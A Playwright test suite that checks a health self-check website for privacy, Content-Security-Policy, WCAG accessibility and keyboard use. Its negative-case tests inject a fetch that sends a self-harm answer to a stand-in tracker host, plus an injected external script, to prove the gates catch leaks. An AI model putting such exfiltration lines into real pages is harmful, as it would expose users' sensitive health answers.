"""Quality gates over every page of the built site, in Chromium with the shipped headers:
privacy (no other origin, no cookie, no stored answers), Content-Security-Policy, accessibility
(axe-core, WCAG 2.2 A and AA, light and dark) and keyboard use. Each gate has a negative case."""

import json
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from .conftest import site_pages
from .helpers import ENGINE_READY, RequestLog, answer_with_mouse, complete_answers, storage_snapshot

AXE = Path(__file__).resolve().parents[2] / "node_modules" / "axe-core" / "axe.min.js"
WCAG_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22a", "wcag22aa"]
# What Material itself may keep in the browser: display preferences, never an answer.
# (Material prefixes its keys with the site's path; the names below are its own.)
THEME_KEYS = ("__palette", "__consent", "__tabs", "__search", "__expand")
RECORD_VIOLATIONS = """
  window.__cspViolations = [];
  document.addEventListener("securitypolicyviolation",
    (e) => window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


def origin(url):
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


SELF_CHECK_PAGES = ("/self-check/", "/embed/self-check/")


def audit_page(page, log, origin_url: str, path: str, start: int) -> list[str]:
    """What is wrong with one loaded page: other origins, CSP violations, stored data, runtime on articles."""
    problems = []
    others = [u for u in log.urls(start) if origin(u) != origin_url]
    violations = page.evaluate("window.__cspViolations || []")
    stored = storage_snapshot(page)
    theme_only = all(any(k.endswith(name) for name in THEME_KEYS) for k in [*stored["local"], *stored["session"]])
    if others:
        problems.append(f"{path}: requests to other origins: {others}")
    if violations:
        problems.append(f"{path}: CSP violations: {violations}")
    if not theme_only or stored["indexedDB"]:
        problems.append(f"{path}: stored something other than the theme's display preferences: {stored}")
    if path not in SELF_CHECK_PAGES and any("/pyodide/" in u for u in log.urls(start)):
        problems.append(f"{path}: an article page loaded the Python runtime")
    return problems


def test_every_page_is_private_and_keeps_to_its_content_security_policy(page, context, audited):
    built_site, csp_server = audited
    page.add_init_script(RECORD_VIOLATIONS)
    log = RequestLog().attach(context)
    problems = []
    paths = site_pages(built_site)
    assert len(paths) >= 6
    for path in paths:
        start = len(log.entries)
        response = page.goto(csp_server.origin + path, wait_until="networkidle")
        assert response.headers.get("content-security-policy"), "the header is sent"
        if path in SELF_CHECK_PAGES:
            page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
        problems += audit_page(page, log, csp_server.origin, path, start)
    assert context.cookies() == []
    assert not problems, "\n".join(problems)


def test_the_privacy_audit_catches_a_leak(browser, site_server):
    """Negative case: a request to another origin, an answer in storage and a cookie are all caught."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    log = RequestLog().attach(context)
    page.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
    page.goto(site_server.origin + "/risks-and-side-effects/")
    page.evaluate("""() => {
        localStorage.setItem("answers", JSON.stringify({danger_now: "yes"}));
        document.cookie = "seen=1; path=/";
        return fetch("https://tracker.invalid/collect?q=danger_now", {mode: "no-cors"});
    }""")
    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
    assert any("tracker.invalid" in p for p in problems)
    assert any("stored something" in p and "danger_now" in p for p in problems)
    assert context.cookies() != []
    context.close()


def test_the_self_check_works_under_the_policy_header(page, csp_server):
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(csp_server.origin + "/self-check/")
    page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    answer_with_mouse(page, complete_answers(liver="yes"))
    page.click("[data-sc-submit]")
    page.wait_for_selector("[data-sc-result]:not([hidden])")
    assert page.get_attribute("[data-sc-result]", "data-tier") == "review-first"
    assert page.evaluate("window.__cspViolations") == []


def test_the_policy_bites_an_injected_script_is_blocked(page, csp_server):
    page.add_init_script(RECORD_VIOLATIONS)
    failures = {}
    page.on("requestfailed", lambda request: failures.setdefault(request.url, request.failure))
    page.goto(csp_server.origin + "/")
    page.evaluate("""() => {
        const outside = document.createElement("script");
        outside.src = "https://tracker.invalid/pixel.js";
        document.head.append(outside);
        const inline = document.createElement("script");
        inline.textContent = "window.__injected = true";
        document.head.append(inline);
    }""")
    page.wait_for_function("window.__cspViolations.length >= 2")
    violations = page.evaluate("window.__cspViolations")
    assert any("tracker.invalid" in v for v in violations)
    assert any(v.startswith("script-src") and "inline" in v for v in violations)
    assert page.evaluate("window.__injected === undefined")
    assert failures.get("https://tracker.invalid/pixel.js") in ("csp", "net::ERR_BLOCKED_BY_CSP"), failures


def test_without_wasm_unsafe_eval_in_the_header_the_engine_fails_visibly(page, built_site):
    """Negative case for the worker's policy: a header without 'wasm-unsafe-eval' stops Pyodide, and
    the page says so quickly (the worker probes WebAssembly before loading the runtime)."""
    from sitekit.headers import read_headers_file
    from tests.conftest import SiteServer

    headers = read_headers_file(built_site)["/*"]
    headers["Content-Security-Policy"] = headers["Content-Security-Policy"].replace(" 'wasm-unsafe-eval'", "")
    with SiteServer(built_site, headers=headers) as server:
        page.goto(server.origin + "/self-check/")
        page.wait_for_selector("[data-sc-root][data-engine=failed]", state="attached", timeout=10000)
        assert "block WebAssembly" in page.text_content("[data-sc-status]")


# ---- accessibility ----

def axe_violations(page, selector="html"):
    page.add_script_tag(path=str(AXE))
    result = page.evaluate(
        "async ([selector, tags]) => (await axe.run(document.querySelector(selector), "
        "{runOnly: {type: 'tag', values: tags}})).violations.map((v) => "
        "({id: v.id, help: v.help, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 5)}))",
        [selector, WCAG_TAGS],
    )
    return result


@pytest.fixture(params=["light", "dark"])
def scheme_page(request, browser):
    # bypass_csp lets the test inject axe-core; the pages themselves are unchanged.
    context = browser.new_context(color_scheme=request.param, bypass_csp=True)
    page = context.new_page()
    page.scheme = request.param
    yield page
    context.close()


def test_every_page_has_no_wcag_violations(scheme_page, audited):
    built_site, server = audited
    page = scheme_page
    problems = []
    for path in site_pages(built_site):
        page.goto(server.origin + path)
        scheme = page.get_attribute("body", "data-md-color-scheme")
        assert scheme == ("slate" if page.scheme == "dark" else "default"), "the palette follows the system"
        for violation in axe_violations(page):
            problems.append(f"{page.scheme} {path}: {violation['id']}: {violation['help']} at {violation['nodes']}")
    assert not problems, "\n".join(problems)


def settled(page):
    """Wait until the step the page moved to has focus on its heading (the page moves focus, and
    scrolls, right after the frame that shows a step), so that axe measures a page at rest."""
    page.wait_for_function("""() => {
        const focused = document.activeElement;
        return focused && focused.matches("h2[tabindex='-1']") && focused.checkVisibility();
    }""", timeout=5000)


def test_every_self_check_step_and_result_has_no_wcag_violations(scheme_page, site_server):
    page = scheme_page
    page.goto(site_server.origin + "/self-check/")
    page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    problems = []
    answers = complete_answers(self_harm="yes", self_harm_plan="no", sedatives=["opioids"])
    from .helpers import in_page_order

    for number, (question, options) in enumerate(in_page_order(answers)):
        problems += [f"{question['id']}: {v['id']} {v['nodes']}" for v in axe_violations(page, "[data-sc-root]")]
        if number == 0:
            page.click("[data-sc-continue]")  # once without an answer: the error state is checked too
            problems += [f"error: {v['id']} {v['nodes']}" for v in axe_violations(page, "[data-sc-root]")]
        for option in options:
            page.check(f"#sc-{question['id']}-{option}")
        page.click("[data-sc-continue]")
        settled(page)
    problems += [f"review: {v['id']} {v['nodes']}" for v in axe_violations(page, "[data-sc-root]")]
    page.click("[data-sc-submit]")
    page.wait_for_selector("[data-sc-result]:not([hidden])")
    settled(page)
    problems += [f"result: {v['id']} {v['nodes']}" for v in axe_violations(page, "html")]
    assert not problems, "\n".join(problems)


def test_axe_catches_a_broken_page(scheme_page, site_server):
    """Negative case: the gate fails when an image has no text alternative and a button no name."""
    page = scheme_page
    page.goto(site_server.origin + "/")
    page.evaluate("""() => {
        const img = document.createElement("img"); img.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
        const button = document.createElement("button");
        document.querySelector("article").append(img, button);
    }""")
    ids = {v["id"] for v in axe_violations(page)}
    assert {"image-alt", "button-name"} <= ids


# ---- keyboard ----

TAG_FOCUSABLES = """() => {
    // Every visible element that takes keyboard focus gets a stable label; a radio group is one
    // Tab stop (arrow keys move within it), so its radios share one label.
    const labels = [];
    for (const el of document.querySelectorAll("*")) {
        if (el.tabIndex < 0 || el.disabled || el.hidden || !el.getClientRects().length) continue;
        const style = getComputedStyle(el);
        if (style.visibility === "hidden" || style.display === "none") continue;
        const label = el.type === "radio" ? `radio ${el.name}` : `${el.tagName.toLowerCase()} #${labels.length} ${
            (el.getAttribute("aria-label") || el.textContent || el.name || "").trim().slice(0, 40)}`;
        el.dataset.kb = label;
        if (!labels.includes(label)) labels.push(label);
    }
    return labels;
}"""

FOCUS_STATE = """() => {
    const el = document.activeElement;
    const styled = (node) => {
        const style = getComputedStyle(node);
        return (style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0) || style.boxShadow !== "none";
    };
    // A visually hidden input may show its focus on its label, or on the label beside it (Material's
    // palette toggle).
    const beside = el.nextElementSibling && el.nextElementSibling.tagName === "LABEL" ? [el.nextElementSibling] : [];
    const visible = styled(el) || [...(el.labels || []), ...beside].some(styled);
    const again = el.hasAttribute("data-kb-seen");
    el.setAttribute("data-kb-seen", "");
    return {label: el.dataset ? el.dataset.kb || el.outerHTML.slice(0, 80) : null, tag: el.tagName, visible, again};
}"""


def tab_through(page, limit):
    reached, unseen = [], []
    for _ in range(limit):
        page.keyboard.press("Tab")
        focus = page.evaluate(FOCUS_STATE)
        if focus["tag"] == "BODY" or focus["again"]:
            break
        reached.append(focus["label"])
        if not focus["visible"]:
            unseen.append(focus["label"])
    return reached, unseen


@pytest.mark.parametrize("path", ["/", "/self-check/", "/risks-and-side-effects/"])
def test_keyboard_reaches_every_control_in_order_with_visible_focus(page, site_server, path):
    page.goto(site_server.origin + path)
    if path == "/self-check/":
        page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    expected = page.evaluate(TAG_FOCUSABLES)
    reached, unseen = tab_through(page, len(expected) + 20)
    missing = [label for label in expected if label not in reached]
    assert not missing, f"not reachable by Tab: {missing}"
    assert not unseen, f"focus not visible on: {unseen}"
    # In document order, so the order follows the page; the crisis lines come first after "Skip".
    assert [label for label in reached if label in expected] == [label for label in expected if label in reached]
    assert "Skip to content" in reached[0] and "988" in reached[1]


def test_the_keyboard_gate_notices_an_unreachable_control(page, site_server):
    """Negative case: a control that Tab cannot reach is reported as missing."""
    page.goto(site_server.origin + "/")
    page.evaluate("""() => { const b = document.createElement("button"); b.textContent = "Hidden from Tab";
        document.querySelector("article").append(b); }""")
    expected = page.evaluate(TAG_FOCUSABLES)
    page.evaluate("() => { document.querySelector('article button:last-of-type').tabIndex = -1; }")
    reached, _ = tab_through(page, len(expected) + 20)
    missing = [label for label in expected if label not in reached]
    assert missing == [label for label in expected if "Hidden from Tab" in label]


def test_stored_keys_are_recognised_as_display_preferences_only(page, site_server):
    """Toggling the palette stores Material's preference, which holds no answer."""
    page.goto(site_server.origin + "/self-check/")
    page.click("label[for='__palette_1'], [data-md-component=palette] label >> nth=0")
    stored = storage_snapshot(page)
    assert stored["local"], "the palette choice is stored by the theme"
    assert all(any(k.endswith(name) for name in THEME_KEYS) for k in stored["local"])
    assert "danger_now" not in json.dumps(stored)
